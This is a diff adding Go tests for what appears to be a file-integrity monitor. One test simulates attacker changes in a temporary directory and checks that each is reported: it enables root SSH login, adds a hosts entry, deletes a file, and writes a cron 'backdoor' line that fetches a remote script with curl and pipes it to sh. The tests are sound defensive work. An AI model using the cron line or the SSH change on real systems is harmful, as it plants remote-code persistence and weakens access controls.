@@ -388,3 +388,73 @@ func TestWebshellInWebRoot(t *testing.T) {
 		t.Errorf("finding not attributed to the shell: %+v", f.Actor)
 	}
 }
+
+// System files are baselined and every change is reported with who made
+// it, the hashes before and after, and a diff for text.
+func TestFIMReportsSystemFileChanges(t *testing.T) {
+	sys := t.TempDir()
+	os.MkdirAll(filepath.Join(sys, "cron.d"), 0o755)
+	conf := filepath.Join(sys, "sshd_config")
+	os.WriteFile(conf, []byte("Port 22\nPermitRootLogin no\nPasswordAuthentication no\n"), 0o644)
+	os.WriteFile(filepath.Join(sys, "hosts"), []byte("127.0.0.1 localhost\n"), 0o644)
+	os.WriteFile(filepath.Join(sys, "old.conf"), []byte("x=1\n"), 0o644)
+	var mu sync.Mutex
+	changes := map[string]FIMChange{}
+	w, err := Start(Config{SystemPaths: []string{sys}, OnFIMChange: func(c FIMChange) {
+		mu.Lock()
+		changes[filepath.Base(c.Path)+" "+c.Change] = c
+		mu.Unlock()
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer w.Close()
+	waitFor(t, "the baseline", func() bool { return w.Stats().FIMFiles == 3 })
+	if st := w.Stats(); st.Canaries != 0 {
+		t.Fatalf("%d decoys placed in system paths", st.Canaries)
+	}
+	script := "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' " + conf +
+		"; echo '10.0.0.5 update.example.invalid' >> " + filepath.Join(sys, "hosts") +
+		"; echo '* * * * * root curl -s http://198.51.100.7/x | sh' > " + filepath.Join(sys, "cron.d", "backdoor") +
+		"; rm " + filepath.Join(sys, "old.conf") + "; sleep 1"
+	if out, err := exec.Command("sh", "-c", script).CombinedOutput(); err != nil {
+		t.Fatalf("%v %s", err, out)
+	}
+	waitFor(t, "four changes", func() bool { mu.Lock(); defer mu.Unlock(); return len(changes) >= 4 })
+	mu.Lock()
+	defer mu.Unlock()
+	c, ok := changes["sshd_config modified"]
+	if !ok || c.Before == "" || c.After == "" || c.Before == c.After ||
+		!strings.Contains(c.Diff, "-PermitRootLogin no") || !strings.Contains(c.Diff, "+PermitRootLogin yes") || strings.Contains(c.Diff, "Port 22") {
+		t.Errorf("sshd_config change %+v", c)
+	}
+	if c.Actor.Pid == 0 {
+		t.Errorf("change not attributed: %+v", c.Actor)
+	}
+	if c := changes["hosts modified"]; !strings.Contains(c.Diff, "+10.0.0.5 update.example.invalid") {
+		t.Errorf("hosts change %+v", c)
+	}
+	if c := changes["backdoor created"]; c.After == "" || !strings.Contains(c.Diff, "curl") {
+		t.Errorf("cron entry %+v", c)
+	}
+	if c := changes["old.conf deleted"]; c.Before == "" {
+		t.Errorf("deletion %+v", c)
+	}
+	t.Logf("%d changes: %v", len(changes), func() []string {
+		var k []string
+		for n := range changes {
+			k = append(k, n)
+		}
+		return k
+	}())
+}
+
+func TestLineDiff(t *testing.T) {
+	got := lineDiff([]byte("a\nb\nc\nd\n"), []byte("a\nB\nc\nd\ne\n"))
+	if got != "-b\n+B\n+e" && got != "+B\n-b\n+e" {
+		t.Errorf("diff %q", got)
+	}
+	if d := lineDiff(nil, []byte("x\n")); d != "+x" {
+		t.Errorf("diff of a new file %q", d)
+	}
+}
